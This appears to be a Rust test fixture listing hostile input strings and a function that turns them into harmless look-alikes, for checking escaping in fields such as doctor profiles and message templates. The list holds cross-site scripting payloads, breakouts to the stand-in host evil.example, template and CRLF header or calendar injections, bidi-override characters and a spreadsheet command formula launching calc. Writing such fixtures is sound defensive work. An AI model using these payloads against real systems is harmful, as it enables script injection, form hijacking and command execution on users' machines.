//! What nobody should be able to do anything with, wherever it is shown.

/// Each tries to get out of the place that a text has: an element, an attribute, a script, a comment, a header, a calendar.
pub const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus=alert(1) autofocus x='",
    "` onload=alert(1) x=`",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>",
    "</title><base href=//evil.example>",
    "</style><link rel=stylesheet href=//evil.example>",
    "</option></select></td></tr></table></form><form action=//evil.example>",
    "--><!-- <!- ]]> <![CDATA[",
    "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe srcdoc=\"<b>x</b>\"></iframe><template><style>",
    "{{7*7}} ${7*7} {% x %} #{x} <%= x %>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e} \u{2039}img\u{203a}",
    "\u{202e}gnp.exe\u{202c} \u{2066}x\u{2069} \u{feff}\u{200b}\u{ad}",
    "\u{2028}alert(1)\u{2029}",
    "&lt;script&gt; &#60;img&#62; &amp;quot; &#x0;",
    "%3Cscript%3E \\u003cscript\\u003e \\x3c \\\"><b>",
    "x\r\nBcc: eve@example.com\r\n\r\n<b>body</b>\r\n.\r\n",
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTENDEE;CN=\"x\":mailto:eve@example.com\r\n",
    "=cmd|' /C calc'!A0",
];

/// All of them, after a word that says where the text stands.
pub fn hostile(place: &str) -> String {
    format!("Zz-{place} {}", HOSTILE.join(" "))
}

/// A text of the same shape with which nothing can be done: letters in the place of all that means something somewhere.
pub fn innocent(place: &str) -> String {
    // They are shown in paragraphs.
    let has_lines = ["doctor.about", "doctor.qualifications", "message_template.body"].contains(&place);
    let meek = |character: char| match character {
        '\r' | '\n' if has_lines => character,
        '-' | '.' | '_' | ',' | ' ' => character,
        _ if character.is_ascii_alphanumeric() => character,
        _ if character.is_whitespace() => ' ',
        _ => 'x',
    };
    hostile(place).chars().map(meek).collect()
}
